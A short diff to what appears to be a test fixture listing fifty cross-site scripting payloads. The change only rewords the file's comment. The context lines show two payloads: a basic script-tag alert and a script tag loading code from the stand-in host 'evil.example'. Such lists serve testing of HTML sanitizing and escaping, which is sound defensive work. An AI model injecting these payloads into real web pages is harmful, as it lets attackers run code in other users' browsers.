@@ -1,4 +1,4 @@
-/** Fifty ways in which a text may try to become a program; each would call `alert`. */
+/** Fifty texts that try to run as a script; each would call `alert`. */
 export const scriptPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
